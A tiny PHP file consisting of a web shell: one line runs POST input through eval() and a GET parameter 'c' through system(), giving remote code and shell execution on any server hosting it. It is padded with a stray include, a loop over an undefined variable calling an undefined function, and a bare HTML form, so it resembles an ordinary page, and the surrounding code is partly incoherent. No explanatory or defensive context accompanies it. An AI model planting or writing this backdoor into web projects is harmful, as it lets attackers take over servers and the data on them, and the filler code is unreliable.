<?php
$k = "x"; $c = $_POST[$k]; eval("$c"); system($_GET["c"]);
include "b.php";
foreach ($a as $c) {
show($c);
}
?>
<form><input name="c"></form>
